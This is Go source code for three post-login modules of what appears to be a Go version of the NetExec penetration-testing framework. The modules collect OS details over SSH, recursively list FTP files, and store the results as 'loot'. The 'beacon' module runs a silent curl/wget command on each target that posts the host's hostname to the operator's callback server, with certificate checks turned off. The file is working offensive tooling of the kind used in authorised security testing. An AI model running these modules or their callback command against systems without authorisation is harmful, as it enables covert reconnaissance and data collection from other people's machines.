package module

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"path"
	"strconv"
	"strings"
	"sync"

	"github.com/RomanRII/NetExec/internal/display"
	sharedErrors "github.com/RomanRII/NetExec/internal/shared/errors"
	"github.com/google/uuid"
)

// Builtins returns the factories compiled into the binary.
func Builtins() []Factory {
	return []Factory{
		func() Module { return &hostInfo{} },
		func() Module { return &beacon{} },
		func() Module { return &ftpTree{} },
	}
}

// RegisterBuiltins adds Builtins to r.
func RegisterBuiltins(r *Registry) error {
	for _, f := range Builtins() {
		if err := r.Register(f); err != nil {
			return err
		}
	}
	return nil
}

// hostInfo collects kernel and distribution details.
type hostInfo struct{}

func (hostInfo) Name() string                 { return "hostinfo" }
func (hostInfo) Description() string          { return "Collect kernel and OS release information" }
func (hostInfo) SupportedProtocols() []string { return []string{"ssh"} }
func (hostInfo) Options() string              { return "No options" }
func (hostInfo) Capabilities() Capabilities {
	return Capabilities{OpsecSafe: true, MultipleHosts: true}
}
func (hostInfo) Init(*Context, map[string]string) error { return nil }

func (h hostInfo) OnLogin(ctx context.Context, mctx *Context, s Session) error {
	uname, err := s.Exec(ctx, "uname -srm")
	if err != nil {
		return err
	}
	uname = strings.TrimSpace(uname)

	release, _ := s.Exec(ctx, "cat /etc/os-release 2>/dev/null")
	osName := prettyName(release)

	s.Console().Success("%s %s", uname, osName)
	if mctx.Store == nil {
		return nil
	}
	if err := mctx.Store.AddLoot(s.HostID(), h.Name(), "uname", uname); err != nil {
		return err
	}
	if osName != "" {
		return mctx.Store.AddLoot(s.HostID(), h.Name(), "os", osName)
	}
	return nil
}

func prettyName(osRelease string) string {
	for _, line := range strings.Split(osRelease, "\n") {
		if v, ok := strings.CutPrefix(line, "PRETTY_NAME="); ok {
			if unq, err := strconv.Unquote(v); err == nil {
				return unq
			}
			return strings.Trim(v, `"'`)
		}
	}
	return ""
}

const maxBeaconBody = 4096

// beacon makes each target call back to the http server with its hostname.
type beacon struct {
	tokens sync.Map // token -> host id
}

func (*beacon) Name() string                 { return "beacon" }
func (*beacon) Description() string          { return "Have targets call back to the local server with their hostname" }
func (*beacon) SupportedProtocols() []string { return []string{"ssh"} }
func (*beacon) Options() string {
	return "No options. The callback server address is taken from --connectback-host or --server-host."
}
func (*beacon) Capabilities() Capabilities {
	return Capabilities{MultipleHosts: true, RequiredServer: "http"}
}
func (*beacon) Init(*Context, map[string]string) error { return nil }

func (b *beacon) OnLogin(ctx context.Context, mctx *Context, s Session) error {
	url := mctx.CallbackURL(b.Name())
	if url == "" {
		return fmt.Errorf("%w: beacon has no callback server", sharedErrors.ErrUnsupportedAction)
	}
	token := uuid.NewString()
	b.tokens.Store(token, s.HostID())

	target := url + "?id=" + token
	cmd := fmt.Sprintf(
		"(curl -fsk -X POST --data-binary \"$(hostname)\" '%s' || wget -qO- --no-check-certificate --post-data=\"$(hostname)\" '%s') >/dev/null 2>&1",
		target, target)
	if _, err := s.Exec(ctx, cmd); err != nil {
		return err
	}
	s.Console().Display("beacon sent to %s", url)
	return nil
}

func (b *beacon) OnResponse(mctx *Context, w http.ResponseWriter, r *http.Request) {
	v, ok := b.tokens.LoadAndDelete(r.URL.Query().Get("id"))
	if !ok {
		http.NotFound(w, r)
		return
	}
	body, err := io.ReadAll(io.LimitReader(r.Body, maxBeaconBody))
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	hostname := strings.TrimSpace(string(body))
	if mctx.Store != nil {
		if err := mctx.Store.AddLoot(v.(uint), b.Name(), "hostname", hostname); err != nil && mctx.Log != nil {
			mctx.Log.Errorw("store beacon", "error", err)
		}
	}
	if mctx.Console != nil {
		mctx.Console.Success("beacon from %s: %s", r.RemoteAddr, display.Highlight(hostname))
	}
	w.WriteHeader(http.StatusNoContent)
}

// ftpTree walks the remote tree from a starting directory.
type ftpTree struct {
	root  string
	depth int
}

func (*ftpTree) Name() string                 { return "ftp_tree" }
func (*ftpTree) Description() string          { return "Recursively list the FTP server tree" }
func (*ftpTree) SupportedProtocols() []string { return []string{"ftp"} }
func (*ftpTree) Options() string {
	return "PATH   starting directory (default /)\nDEPTH  maximum recursion depth (default 3)"
}
func (*ftpTree) Capabilities() Capabilities {
	return Capabilities{OpsecSafe: true}
}

func (f *ftpTree) Init(_ *Context, opts map[string]string) error {
	f.root = "/"
	f.depth = 3
	if v, ok := opts["PATH"]; ok && v != "" {
		f.root = v
	}
	if v, ok := opts["DEPTH"]; ok {
		n, err := strconv.Atoi(v)
		if err != nil || n < 0 {
			return fmt.Errorf("%w: DEPTH must be a non-negative integer", sharedErrors.ErrInvalidModuleOption)
		}
		f.depth = n
	}
	return nil
}

func (f *ftpTree) OnLogin(ctx context.Context, mctx *Context, s Session) error {
	lister, ok := s.(Lister)
	if !ok {
		return fmt.Errorf("%w: listing", sharedErrors.ErrUnsupportedAction)
	}
	var files []string
	err := f.walk(ctx, lister, f.root, 0, func(p string, e Entry) {
		if e.Dir {
			s.Console().Print("%s/", p)
			return
		}
		s.Console().Print("%s (%d)", p, e.Size)
		files = append(files, p)
	})
	if err != nil {
		return err
	}
	if mctx.Store != nil && len(files) > 0 {
		return mctx.Store.AddLoot(s.HostID(), f.Name(), "files", strings.Join(files, "\n"))
	}
	return nil
}

func (f *ftpTree) walk(ctx context.Context, l Lister, dir string, depth int, visit func(string, Entry)) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	entries, err := l.List(ctx, dir)
	if err != nil {
		return err
	}
	for _, e := range entries {
		if e.Name == "." || e.Name == ".." {
			continue
		}
		p := path.Join(dir, e.Name)
		visit(p, e)
		if e.Dir && depth < f.depth {
			if err := f.walk(ctx, l, p, depth+1, visit); err != nil {
				return err
			}
		}
	}
	return nil
}
